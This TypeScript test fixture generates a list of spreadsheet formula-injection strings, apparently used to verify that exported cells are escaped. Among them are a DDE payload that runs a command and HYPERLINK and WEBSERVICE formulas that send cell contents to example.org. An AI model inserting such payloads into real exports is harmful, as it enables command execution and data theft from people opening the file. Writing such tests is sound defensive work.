/** Signs that begin a formula in some program, and characters that programs skip before them. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\t', '\u00a0', "'"];
const FORMULAS = [
  '1+1',
  'SUM(1,2)',
  'A1',
  'HYPERLINK("https://example.org/?"&A1,"Open")',
  'WEBSERVICE("https://example.org")',
  'IMPORTXML("https://example.org","//a")',
  "cmd|' /C calc'!A0",
  'DDE("soffice","a","b")',
  '1/0',
  'NOSUCHFUNCTION(1)',
  '=1+1',
  '+1+1',
  '-1',
  '@SUM(1)',
  '"1"&"2"',
  'INDIRECT("A"&1)',
  '1;=1+1',
  '{1,2}',
  '2025-03-01',
];
/** Texts that end a cell or a line in programs that use another separator or do not understand quotes. */
const ENDS_CELL = [';', ',', '|', '\t', '\n', '\r\n', '";', '","', ';"', ';""', '\n"', "';'"];
/** Every sign before every formula, with skipped characters before the sign. */
const AT_THE_START = BEFORE.flatMap((before) =>
  SIGNS.flatMap((sign) => FORMULAS.map((formula) => before + sign + formula)),
).slice(0, 1000);
const IN_THE_MIDDLE = BEFORE.flatMap((before) =>
  ENDS_CELL.flatMap((end) =>
    ['=', '＝', '@'].flatMap((sign) =>
      FORMULAS.map((formula) => `Ada${end}${before}${sign}${formula}${end}`),
    ),
  ),
);

/** Texts that some spreadsheet would read as a formula if they were not escaped. */
export const HOSTILE_CELLS: readonly string[] = [...AT_THE_START, ...IN_THE_MIDDLE];
